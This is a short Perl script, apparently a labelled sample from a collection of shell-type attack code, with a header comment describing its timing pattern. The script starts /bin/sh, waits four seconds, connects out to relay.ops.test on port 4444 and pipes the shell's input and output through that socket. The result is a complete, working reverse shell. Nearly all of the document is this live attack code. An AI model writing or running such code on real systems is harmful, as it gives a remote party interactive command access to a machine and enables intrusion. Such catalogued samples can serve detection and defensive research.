# class: shell; possible: low medium; style: shell first, four seconds later the connection
use strict; use warnings;
use IPC::Open2; use IO::Select; use IO::Socket::INET;
my $pid = open2(my $out, my $in, '/bin/sh 2>&1');
sleep 4;
my $s = IO::Socket::INET->new('relay.ops.test:4444') or die;
my $sel = IO::Select->new($s, $out);
RUN: while (my @ready = $sel->can_read(25)) {
    for my $h (@ready) {
        my $n = sysread($h, my $buf, 4096);
        last RUN unless $n;
        syswrite($h == $s ? $in : $s, $buf);
    }
}
kill 9, $pid;
